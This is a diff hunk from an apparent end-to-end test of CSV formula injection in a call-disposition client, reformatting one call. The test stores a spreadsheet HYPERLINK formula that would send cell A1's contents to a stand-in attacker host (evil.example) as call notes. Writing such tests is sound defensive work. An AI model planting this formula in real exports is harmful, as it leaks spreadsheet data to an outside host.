@@ -83,7 +83,11 @@ describe("CSV formula injection, end to end", () => {
     });
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
     const client = createClient({ settings });
-    await client.dispositions.setCallDisposition(call.id, { dispositionCodeId: "BUSY", notes: formula, tags: [] });
+    await client.dispositions.setCallDisposition(call.id, {
+      dispositionCodeId: "BUSY",
+      notes: formula,
+      tags: [],
+    });
     await client.close();
     const window = ["--from", emu.fixtures.callWindow.start, "--to", new Date().toISOString()];
     const csv = path.join(d, "out.csv");
